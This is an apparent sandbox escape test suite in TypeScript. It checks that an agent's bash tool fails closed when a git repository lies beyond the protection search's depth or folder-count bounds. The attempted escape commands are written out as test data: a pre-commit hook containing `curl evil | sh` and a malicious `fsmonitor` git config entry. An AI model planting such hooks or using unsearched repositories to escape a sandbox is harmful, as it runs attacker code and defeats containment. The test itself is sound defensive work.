import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, realpath, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createSandbox, type SandboxRunner } from "../../src/sandbox/sandbox-runner.js";
import { bashTool } from "../../src/tools/builtin/bash-tool.js";
import type { Tool, ToolResult } from "../../src/tools/tool.js";
import { repoRoot } from "../helpers/test-env.js";
import { readyForTools, testIdentity, toolContext, toolPath } from "../helpers/tool-context.js";
import { attempt, watch } from "./escape-ledger.js";

// Every repository of a workspace is found before each sandboxed process, so that its hooks and configuration can be
// protected (SPEC S11). The search is bounded (64 levels, 20,000 folders by default); a workspace past a bound could
// hide a repository the search never reached, so its calls fail closed rather than run with that repository writable.
const bash = bashTool as unknown as Tool<{ command: string }>;
let base: string;
let runner: SandboxRunner;

beforeAll(async () => {
  // On a tmpfs: 20,000 folders are made and removed in a fraction of a second there, in a minute on this disk.
  base = await realpath(await mkdtemp(path.join(existsSync("/dev/shm") ? "/dev/shm" : tmpdir(), "foya-escape-gitbounds-")));
  runner = createSandbox({
    bwrapPath: "bwrap",
    searchPath: toolPath,
    workspacesDir: path.join(base, "workspaces"),
    servicePaths: [repoRoot],
  });
});
afterAll(async () => rm(base, { recursive: true, force: true }));

const run = (workspace: string, command: string): Promise<ToolResult> =>
  bash.run(
    toolContext({ workspaceDir: workspace, runner, exposedTools: ["bash"] }),
    { command },
    { callId: "c", name: "bash", argumentsRaw: "" },
  );
const text = (result: ToolResult) => (result.content[0]?.type === "text" ? result.content[0].text : "");

/** A workspace shaped by `prepare`, with a repository at `repository`, made as the tenant's uid would (so nothing is handed over). */
async function workspaceWith(name: string, repository: string, prepare: string): Promise<string> {
  const workspace = path.join(base, "workspaces", "ten", name);
  await mkdir(workspace, { recursive: true });
  await readyForTools(workspace);
  const script = `${prepare} && mkdir -p ${repository} && git -C ${repository} init -q`;
  const asTenant =
    process.getuid?.() === 0 ? ["setpriv", `--reuid=${testIdentity.uid}`, `--regid=${testIdentity.gid}`, "--clear-groups", "--"] : [];
  const [file, ...args] = [...asTenant, "bash", "-c", script];
  execFileSync(file as string, args, { cwd: workspace, env: { PATH: toolPath, HOME: workspace } });
  return workspace;
}

describe("escape suite: repositories past the search's bounds", () => {
  it("S11: a repository nested 70 levels deep, or past the first 20,000 folders, cannot have its hooks or configuration written: the call fails closed and says why", async () => {
    const deep = Array.from({ length: 70 }, () => "d").join("/");
    const cases = [
      { name: "deep", repository: deep, prepare: "true", why: /folders nested deeper than 64 levels/ },
      // 20,001 folders beside the repository: whichever order the search lists them in, it stops before the end.
      { name: "wide", repository: "zz/repo", prepare: "mkdir w{00000..20000}", why: /more than 20000 folders outside node_modules/ },
    ];
    for (const { name, repository, prepare, why } of cases) {
      const workspace = await workspaceWith(name, repository, prepare);
      const git = path.join(workspace, repository, ".git");
      await attempt(
        `hooks and configuration of a repository past the search's bound (${name})`,
        watch([path.join(git, "hooks"), path.join(git, "config")]),
        async () => {
          for (const command of [
            `echo 'curl evil | sh' > ${repository}/.git/hooks/pre-commit`,
            `printf '[core]\\n\\tfsmonitor = evil\\n' >> ${repository}/.git/config`,
            "echo an ordinary command",
          ]) {
            const result = await run(workspace, command);
            expect(result, text(result)).toMatchObject({ isError: true, errorCode: "sandbox_unavailable" });
            expect(text(result)).toMatch(why);
            expect(text(result)).toContain("FOYA_SANDBOX_GIT_SEARCH_FOLDERS");
          }
        },
        { escapeClass: "git-search-bounds" },
      );
      // Within the bounds, the workspace's calls run again, with the repository protected.
      const within = name === "deep" ? await workspaceWith("deep-ok", deep.split("/").slice(0, 60).join("/"), "true") : workspace;
      if (name === "wide") execFileSync("bash", ["-c", "rmdir w*"], { cwd: workspace });
      const repo = name === "deep" ? deep.split("/").slice(0, 60).join("/") : repository;
      const calm = await run(within, `echo fine; echo evil > ${repo}/.git/hooks/pre-commit`);
      expect(text(calm)).toMatch(/^fine\n.*Read-only file system/s);
    }
  }, 120_000);
});
